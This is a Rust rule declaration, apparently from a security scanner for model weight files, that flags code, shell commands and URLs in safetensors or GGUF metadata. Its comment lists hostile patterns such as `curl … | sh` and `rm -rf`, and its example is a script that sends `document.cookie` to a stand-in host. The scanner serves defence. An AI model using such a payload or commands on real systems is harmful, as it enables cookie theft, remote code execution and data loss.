declare_rule! {
    /// ## What it does
    /// Reports free-text metadata of a model (safetensors `__metadata__`, GGUF string values)
    /// that contains code or shell fragments (`import os`, `eval(`, `subprocess`, `<script>`,
    /// `rm -rf`, `curl … | sh`) — severity medium — or URLs — severity low.
    ///
    /// ## Why is this bad?
    /// Metadata is not executed by the loaders, but tools that render or `eval` it are, and
    /// such strings in a weights file are a sign of tampering.
    ///
    /// ## Example
    /// `"__metadata__": {"description": "<script>fetch('https://x.example/'+document.cookie)</script>"}`
    ///
    /// ## Fix
    /// Strip the metadata, or obtain the file from its publisher.
    pub struct SuspiciousMetadata {
        code: "PAL826",
        name: "suspicious-model-metadata",
        severity: Medium,
        atlas: CHAIN,
        summary: "Model metadata contains code, shell commands or URLs",
    }
}
